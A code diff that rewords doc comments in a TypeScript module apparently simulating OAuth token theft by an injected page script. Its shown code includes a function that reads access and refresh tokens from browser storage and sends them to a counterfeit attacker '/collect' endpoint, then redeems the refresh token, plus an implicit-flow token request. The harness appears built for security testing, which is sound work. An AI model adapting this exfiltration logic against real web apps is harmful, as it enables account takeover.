@@ -13,7 +13,7 @@ export const NOTHING_FOUND = 'nothing';
 /** A pattern: where the tokens of an app are, and what a script in its page can do. */
 export interface Pattern {
   name: string;
-  /** Signs in. */
+  /** Signs a person in. @returns the page after the sign-in. */
   open(machine: Machine, origin: string): Promise<Page>;
 }
 
@@ -24,7 +24,7 @@ export interface Page {
   lane: 'client' | 'browser';
   /** The texts in `localStorage` and `sessionStorage`. */
   stored(): string[];
-  /** The call that the page makes for a person, and that a script can make, too. */
+  /** The call that the page makes for a person. A script can make the same call. */
   call(): Promise<void>;
 }
 
@@ -83,7 +83,7 @@ function tokenIn(texts: readonly string[]): { access?: string; refresh?: string 
   return found;
 }
 
-/** The script reads the storage and sends what it finds to the attacker, who uses it. */
+/** Reads the storage as a script, and sends the token in it to the attacker, who uses the token. */
 export async function readStorage({ run, lane, stored }: Page): Promise<void> {
   const { access, refresh } = tokenIn(stored());
   const { method, url, headers, body } = formMessage(`${run.origin}${COUNTERFEIT}/collect`, {
@@ -99,7 +99,7 @@ export async function readStorage({ run, lane, stored }: Page): Promise<void> {
   await run.send(formMessage(`${run.issuer}/token`, form), 'attacker');
 }
 
-/** The script asks for a token in the address (RFC 6749 §4.2). */
+/** Asks for a token in the address, as a script (RFC 6749 §4.2). */
 export async function askInTheAddress(machine: Machine): Promise<void> {
   try {
     await machine.start().authorize({
